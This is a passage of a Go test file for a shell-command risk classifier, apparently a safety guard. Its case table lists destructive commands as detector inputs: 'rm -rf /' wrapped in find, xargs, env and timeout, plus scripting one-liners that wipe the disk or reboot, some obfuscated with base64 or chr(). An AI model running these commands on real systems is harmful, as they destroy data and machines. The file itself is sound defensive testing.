	{"perl-eval-argv", `perl -e 'eval $ARGV[0]'`, D, true, []string{RuleInlineProgram, RuleDynamicCode}},
	{"perl-eval-block-benign", `perl -e 'eval { die }; print 1'`, M, false, []string{RuleInlineProgram}},
	{"ruby-system-space", `ruby -e 'system "rm -rf /"'`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"ruby-percent-x", `ruby -e '%x(reboot)'`, D, false, []string{RuleInlineProgram, RulePower}},
	{"ruby-puts-benign", `ruby -e 'puts "hi"'`, M, false, []string{RuleInlineProgram}},
	{"node-execSync", `node -e "require('child_process').execSync('rm -rf /')"`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"node-spawnSync-argv", `node -e 'require("child_process").spawnSync("rm",["-rf","/"])'`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"node-eval-argv", `node -e 'eval(process.argv[1])'`, D, true, []string{RuleInlineProgram, RuleDynamicCode}},
	{"node-regexp-exec-benign", `node -e 'console.log(/a/.exec("abc"))'`, M, false, []string{RuleInlineProgram}},
	{"php-r-system", `php -r 'system("rm -rf /");'`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"php-eval-base64", `php -r 'eval(base64_decode("c3lzdGVtKCdyZWJvb3QnKTs="));'`, D, true, []string{RuleInlineProgram, RuleDynamicCode, RuleDecodeExec}},
	{"lua-os-execute", `lua -e 'os.execute("reboot")'`, D, false, []string{RuleInlineProgram, RulePower}},
	{"awk-print-pipe-sh", `awk '{print | "sh"}'`, D, true, []string{RuleInlineProgram, RuleDynamicCode}},
	{"awk-print-literal-pipe-sh", `awk 'BEGIN{print "rm -rf /" | "sh"}'`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"awk-printf-pipe-bin-sh", `awk 'BEGIN { printf "rm -rf /" | "/bin/sh" }'`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"awk-system-field", `awk '{system($0)}'`, D, true, []string{RuleInlineProgram, RuleDynamicCode}},
	{"node-child-process-exec", `node -e "require('child_process').exec('reboot')"`, D, false, []string{RuleInlineProgram, RulePower}},
	{"ruby-io-popen", `ruby -e 'IO.popen("reboot")'`, D, false, []string{RuleInlineProgram, RulePower}},
	{"perl-chr-built-command", `perl -e 'system(chr(114).chr(109)." -rf /")'`, D, true, []string{RuleInlineProgram, RuleDynamicCode, RuleDecodeExec}},
	{"python-stdin-herestring", `python3 - <<< 'import os; os.system("reboot")'`, D, false, []string{RuleInlineProgram, RulePower}},
	{"find-glob-start-exec-rm", `find /* -exec rm -rf {} +`, D, false, []string{RuleRmRfRoot}},
	{"xargs-n1-rm", `xargs -n1 -r rm -rf <<< "/tmp/x /"`, D, false, []string{RuleRmRfRoot}},
	{"awk-getline-command", `awk 'BEGIN{"reboot" | getline}'`, D, false, []string{RuleInlineProgram, RulePower}},
	{"awk-system-variable", `awk 'BEGIN{cmd="rm -rf /"; system(cmd)}'`, D, true, []string{RuleInlineProgram, RuleDynamicCode}},
	{"awk-system-concatenated", `awk 'BEGIN{system("rm -rf " dir)}'`, D, true, []string{RuleInlineProgram, RuleDynamicCode}},
	{"awk-pipe-sort-benign", `awk '{print $1 | "sort"}'`, M, false, []string{RuleInlineProgram}},
	{"awk-getline-date-benign", `awk 'BEGIN{while (("date" | getline d) > 0) print d}'`, M, false, []string{RuleInlineProgram}},
	{"awk-split-on-bar", `awk -F'|' '{split($0,a,"|"); print a[1]}'`, M, false, []string{RuleInlineProgram}},
	{"awk-print-field-benign", `awk '{print $1}'`, S, false, nil},
	{"find-exec-rm-root-plus", `find / -exec rm -rf {} +`, D, false, []string{RuleRmRfRoot}},
	{"find-maxdepth-exec-rm-root", `find / -maxdepth 1 -exec rm -rf {} \;`, D, false, []string{RuleRmRfRoot}},
	{"find-print-benign", `find . -name x -print`, S, false, nil},
	{"find-pipe-xargs-rm-root", `find / | xargs rm -rf`, D, false, []string{RuleRmRfRoot}},
	{"find-print0-xargs-0-rm-root", `find / -print0 | xargs -0 rm -rf`, D, false, []string{RuleRmRfRoot}},
	{"find-filtered-xargs-0-rm", `find . -name '*.tmp' -print0 | xargs -0 rm -f`, M, false, nil},
	{"xargs-0-rm-herestring", `xargs -0 rm -rf <<< /`, D, false, []string{RuleRmRfRoot}},
	{"xargs-echo-pipe-rm", `echo / | xargs rm -rf`, D, false, []string{RuleRmRfRoot}},
	{"xargs-quoted-item", `echo "'/'" | xargs rm -rf`, D, false, []string{RuleRmRfRoot}},
	{"xargs-printf-items", `printf '%s\n' / | xargs rm -rf`, D, false, []string{RuleRmRfRoot}},
	{"xargs-I-line", `printf '/\n' | xargs -I{} rm -rf {}`, D, false, []string{RuleRmRfRoot}},
	{"xargs-delimiter", `xargs -d , rm -rf <<< "a,/"`, D, false, []string{RuleRmRfRoot}},
	{"xargs-heredoc", "xargs rm -rf <<EOF\n/\nEOF", D, false, []string{RuleRmRfRoot}},
	{"xargs-cat-heredoc-pipe", "cat <<EOF | xargs rm -rf\n/\nEOF", D, false, []string{RuleRmRfRoot}},
	{"xargs-sh-c-known", `echo 'rm -rf /' | xargs -0 sh -c`, D, false, []string{RuleRmRfRoot}},
	{"xargs-arg-file-unknown", `xargs -a list rm -rf`, M, false, nil},
	{"xargs-echo-benign", `xargs echo`, S, false, nil},
	{"xargs-echo-items-benign", `echo a b | xargs echo`, S, false, nil},
	{"xargs-too-many-words", "echo " + strings.Repeat("a ", maxFeedItems+1) + "| xargs rm", D, false, []string{RuleTooComplex}},
	{"env-i-rm-root", `env -i rm -rf /`, D, false, []string{RuleRmRfRoot}},
	{"timeout-rm-root", `timeout 5 rm -rf /`, D, false, []string{RuleRmRfRoot}},
	{"stdbuf-rm-root", `stdbuf -oL rm -rf /`, D, false, []string{RuleRmRfRoot}},
	{"nice-n-rm-home", `nice -n 5 rm -rf ~`, D, false, []string{RuleRmRfRoot}},
	{"nohup-python-system", `nohup python3 -c 'import os; os.system("reboot")' &`, D, false, []string{RuleInlineProgram, RulePower}},
	{"timeout-perl-system", `timeout 5 perl -e 'system("rm -rf /")'`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"env-xargs-rm", `env xargs rm -rf <<< /`, D, false, []string{RuleRmRfRoot}},

	// --- unparseable and caps ---
	{"unterminated-quote", "echo 'unterminated", D, false, []string{RuleUnparseable}},
	{"bad-syntax", "if then fi", D, false, []string{RuleUnparseable}},
	{"bad-nested-syntax", `bash -c 'if then'`, D, false, []string{RuleUnparseable}},
	{"too-long", "echo " + strings.Repeat("a", maxInputBytes), D, false, []string{RuleTooComplex}},
	{"wrapper-chain", strings.Repeat("nohup ", maxWrapperChain+2) + "ls", D, false, []string{RuleTooComplex}},
}

func TestClassify(t *testing.T) {
	g := New(Config{})
	names := map[string]bool{}
	for _, tc := range classifyCases {
		if names[tc.name] {
			t.Fatalf("duplicate case name %q", tc.name)
		}
		names[tc.name] = true
		t.Run(tc.name, func(t *testing.T) {
			v := g.Classify(tc.cmd)
			if v.Risk != tc.risk || v.Dynamic != tc.dynamic || !sameSet(v.Rules, tc.rules) {
				b, _ := json.MarshalIndent(v, "", "  ")
				t.Errorf("Classify(%q)\n got risk=%v dynamic=%v rules=%v\nwant risk=%v dynamic=%v rules=%v\n%s",
					tc.cmd, v.Risk, v.Dynamic, v.Rules, tc.risk, tc.dynamic, tc.rules, b)
			}
			if v.Risk > Safe && len(v.Reasons) == 0 {
				t.Errorf("risk %v without a reason", v.Risk)
			}
			if v.Dynamic && v.Risk != Dangerous {
				t.Errorf("dynamic but risk %v", v.Risk)
			}
		})
	}
	if len(classifyCases) < 80 {
		t.Errorf("only %d cases", len(classifyCases))
	}
}

func sameSet(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for _, x := range b {
		if !slices.Contains(a, x) {
			return false
		}
	}
	return true
}

func TestCommandsUnwrapped(t *testing.T) {
	g := New(Config{})
	v := g.Classify(`sudo -u bob env FOO=1 nohup timeout 5 /usr/bin/rm -rf "$D" | grep x`)
	want := []string{"sudo", "env", "nohup", "timeout", "rm", "grep"}
	if got := Names(v); !slices.Equal(got, want) {
		t.Fatalf("Names = %v, want %v", got, want)
	}
	rm := v.Commands[4]
	if rm.Literal || !slices.Equal(rm.Args, []string{"-rf", `"$D"`}) || rm.Depth != 0 {
		t.Errorf("rm command = %+v", rm)
	}
	if !v.Commands[5].Literal {
		t.Errorf("grep should be literal: %+v", v.Commands[5])
	}
	v = g.Classify(`bash -c "sh -c 'ls /tmp'"`)
	if n := len(v.Commands); n != 3 || v.Commands[2].Name != "ls" || v.Commands[2].Depth != 2 {
		t.Errorf("nested commands = %+v", v.Commands)
	}
}

func TestPaths(t *testing.T) {
	v := New(Config{}).Classify("cp -r ./src /tmp/out --target-directory=/srv/x && cat ~/notes README < in.txt 2>&1 >> /tmp/log && ls .")
	want := []string{"./src", "/tmp/out", "/srv/x", "~/notes", "README", ".", "in.txt", "/tmp/log"}
	if got := Paths(v); !slices.Equal(got, want) {
		t.Fatalf("Paths = %v, want %v", got, want)
	}
	if got, want := v.Redirects, []string{"in.txt", "/tmp/log"}; !slices.Equal(got, want) {
		t.Fatalf("Redirects = %v, want %v", got, want)
	}
}

func TestInDir(t *testing.T) {
	cases := []struct {
		name  string
		paths []string
		cwd   string
		want  []string
	}{
		{"no cwd", []string{"a"}, "", []string{"a"}},
		{"relative cwd ignored", []string{"a"}, "etc", []string{"a"}},
		{"cwd and relative words", []string{"hostname", "/tmp/x", "~/y", "../etc/z"}, "/etc", []string{"hostname", "/tmp/x", "~/y", "../etc/z", "/etc", "/etc/hostname", "/etc/z"}},
		{"no duplicates", []string{"/w", "."}, "/w", []string{"/w", "."}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := InDir(tc.paths, tc.cwd); !slices.Equal(got, tc.want) {
				t.Fatalf("InDir(%q, %q) = %q, want %q", tc.paths, tc.cwd, got, tc.want)
			}
		})
	}
}

func TestConfig(t *testing.T) {
	g := New(Config{Dangerous: []string{"terraform"}, Safe: []string{"make"}, MaxDepth: 1})
	tests := []struct {
		name  string
		cmd   string
		risk  Risk
		rules []string
	}{
		{"extra-dangerous", "terraform destroy", D, []string{RuleConfigured}},
		{"extra-dangerous-wrapped", "sudo terraform apply", D, []string{RuleConfigured}},
		{"extra-safe", "make test", S, nil},
		{"extra-safe-rules-still-apply", "make -C / ; rm -rf /", D, []string{RuleRmRfRoot}},
		{"depth-1-ok", nestBashC("ls", 1), S, nil},
		{"depth-2-exceeds-1", nestBashC("ls", 2), D, []string{RuleDepthExceeded}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v := g.Classify(tc.cmd)
			if v.Risk != tc.risk || !sameSet(v.Rules, tc.rules) {
				t.Errorf("Classify(%q) = %v %v, want %v %v", tc.cmd, v.Risk, v.Rules, tc.risk, tc.rules)
			}
		})
	}
	// The zero Config is usable and uses DefaultMaxDepth.
	if v := New(Config{}).Classify(nestBashC("ls", DefaultMaxDepth)); v.Risk != Safe {
		t.Errorf("zero config, depth %d: %v %v", DefaultMaxDepth, v.Risk, v.Rules)
	}
}

func TestRisk(t *testing.T) {
	if Safe >= Medium || Medium >= Dangerous {
		t.Fatal("tiers out of order")
	}
	parse := []struct {
		in   string
		want Risk
	}{
		{"safe", Safe}, {"SAFE", Safe}, {"medium", Medium}, {"dangerous", Dangerous},
		{" Dangerous ", Dangerous}, {"unknown", Medium}, {"", Medium}, {"bogus", Medium},
	}
	for _, p := range parse {
		if got := ParseRisk(p.in); got != p.want {
			t.Errorf("ParseRisk(%q) = %v, want %v", p.in, got, p.want)
		}
	}
	for _, r := range []Risk{Safe, Medium, Dangerous} {
		b, err := r.MarshalText()
		if err != nil {
			t.Fatal(err)
		}
		var back Risk
		if err := back.UnmarshalText(b); err != nil || back != r || string(b) != r.String() {
			t.Errorf("round trip %v: %q %v %v", r, b, back, err)
		}
	}
	var r Risk
	if r.Valid() {
		t.Error("zero Risk must not be a valid tier")
	}
	if _, err := r.MarshalText(); err == nil {
		t.Error("marshal of zero Risk succeeded")
	}
	if err := r.UnmarshalText([]byte("unknown")); err != nil || r != Medium {
		t.Errorf("unmarshal unknown: %v %v", r, err)
	}
	if err := r.UnmarshalText([]byte("dangerus")); err == nil { //nolint:misspell // the typo is the test input
		t.Error("unmarshal of a typo succeeded")
	}
	b, err := json.Marshal(struct{ R Risk }{Dangerous})
	if err != nil || string(b) != `{"R":"dangerous"}` {
		t.Errorf("json: %s %v", b, err)
	}
}

func TestDeterministic(t *testing.T) {
	g := New(Config{})
	for _, tc := range classifyCases {
		a, _ := json.Marshal(g.Classify(tc.cmd))
		b, _ := json.Marshal(g.Classify(tc.cmd))
		if string(a) != string(b) {
			t.Errorf("%s: two classifications differ:\n%s\n%s", tc.name, a, b)
		}
	}
}

func TestConcurrent(t *testing.T) {
	g := New(Config{})
	done := make(chan bool)
	for range 4 {
		go func() {
			for _, tc := range classifyCases {
				if v := g.Classify(tc.cmd); v.Risk != tc.risk {
					t.Errorf("%s: concurrent risk %v, want %v", tc.name, v.Risk, tc.risk)
				}
			}
			done <- true
		}()
	}
	for range 4 {
		<-done
	}
}

// TestEveryRuleExercised fails when a rule id has no table case that
// expects it: a rule nobody tests is a rule nobody knows still works.
func TestEveryRuleExercised(t *testing.T) {
	all := []string{
		RuleUnparseable, RuleTooComplex, RuleDepthExceeded, RuleDynamicCommand, RuleDynamicCode,
		RulePipeToShell, RuleSourceDynamic, RuleDownloadExec, RuleDecodeExec, RuleForkBomb,
		RuleRmRfRoot, RuleMoveRoot, RuleMkfs, RuleDDDevice, RuleDeviceWrite, RulePower, RuleKillAll,
		RuleChmodRoot, RuleChownRoot, RuleFindDeleteRoot, RuleReverseShell, RuleCredentialRead,
		RuleNamespaceTool, RulePrivileged, RuleInlineProgram, RuleScriptFile, RuleLoaderEnv,
	}
	for _, id := range all {
		found := false
		for _, tc := range classifyCases {
			if slices.Contains(tc.rules, id) {
				found = true
				break
			}
		}
		if !found {
			t.Errorf("no classify case expects rule %q", id)
		}
	}
	for i := range argvRules {
		if !slices.Contains(all, argvRules[i].id) {
			t.Errorf("argv rule %q missing from this test's list", argvRules[i].id)
		}
	}
}
